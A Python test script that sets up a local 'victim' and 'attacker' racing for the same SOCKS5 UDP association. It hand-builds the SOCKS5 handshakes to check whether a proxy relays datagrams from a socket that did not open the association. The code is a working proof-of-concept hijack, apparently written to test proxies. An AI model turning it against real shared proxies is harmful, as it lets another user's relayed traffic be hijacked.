"""Two local users racing for one SOCKS5 UDP association (hand-made SOCKS5, stdlib only).

  socks5_race.py victim PROXY_PORT TARGET_PORT DECLARE DIR
      opens an association on 127.0.0.1:PROXY_PORT (declaring its UDP socket's port if DECLARE
      is 1, else 0.0.0.0:0), writes the association's UDP port to DIR/port, waits for DIR/go,
      sends "victim" to 127.0.0.1:TARGET_PORT through it, prints what comes back.
  socks5_race.py attacker TARGET_PORT DIR [after]
      waits for DIR/port (with "after": and for DIR/sent, the victim's first send), sends
      "attacker" through that association from its own socket, prints what comes back, then
      creates DIR/go.

Each prints "got PAYLOAD" for an echo or "none".
"""
import os
import socket
import struct
import sys
import time


def header(port):
    return b"\x00\x00\x00\x01" + socket.inet_aton("127.0.0.1") + struct.pack("!H", port)


def wait_for(path, seconds=10):
    deadline = time.time() + seconds
    while not os.path.exists(path):
        if time.time() > deadline:
            sys.exit("timed out waiting for " + path)
        time.sleep(0.01)


def answer(s):
    s.settimeout(1.5)
    try:
        data = s.recv(2048)
        print("got", data[10:].decode(), flush=True)
    except OSError:
        print("none", flush=True)


role = sys.argv[1]
if role == "victim":
    proxy, target, declare, d = int(sys.argv[2]), int(sys.argv[3]), sys.argv[4] == "1", sys.argv[5]
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.bind(("127.0.0.1", 0))
    c = socket.create_connection(("127.0.0.1", proxy))
    c.sendall(b"\x05\x01\x00")
    assert c.recv(2) == b"\x05\x00"
    declared = u.getsockname()[1] if declare else 0
    c.sendall(b"\x05\x03\x00\x01" + bytes(4) + struct.pack("!H", declared))
    reply = c.recv(10)
    assert reply[1] == 0, reply
    relay_port = struct.unpack("!H", reply[8:10])[0]
    with open(os.path.join(d, "port.tmp"), "w") as f:
        f.write(str(relay_port))
    os.rename(os.path.join(d, "port.tmp"), os.path.join(d, "port"))
    wait_for(os.path.join(d, "go"))
    u.sendto(header(target) + b"victim", ("127.0.0.1", relay_port))
    open(os.path.join(d, "sent"), "w").close()
    answer(u)
else:
    target, d = int(sys.argv[2]), sys.argv[3]
    wait_for(os.path.join(d, "port"))
    if sys.argv[4:] == ["after"]:
        wait_for(os.path.join(d, "sent"))
    relay_port = int(open(os.path.join(d, "port")).read())
    a = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    a.bind(("127.0.0.1", 0))
    a.sendto(header(target) + b"attacker", ("127.0.0.1", relay_port))
    answer(a)
    open(os.path.join(d, "go"), "w").close()
